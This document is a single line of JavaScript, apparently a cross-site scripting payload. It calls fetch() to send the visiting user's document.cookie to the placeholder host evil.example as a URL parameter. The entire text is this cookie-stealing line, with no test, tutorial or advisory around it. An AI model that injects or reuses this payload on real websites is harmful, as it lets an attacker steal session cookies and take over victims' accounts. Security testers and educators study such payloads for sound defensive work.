fetch('https://evil.example/?c=' + document.cookie);
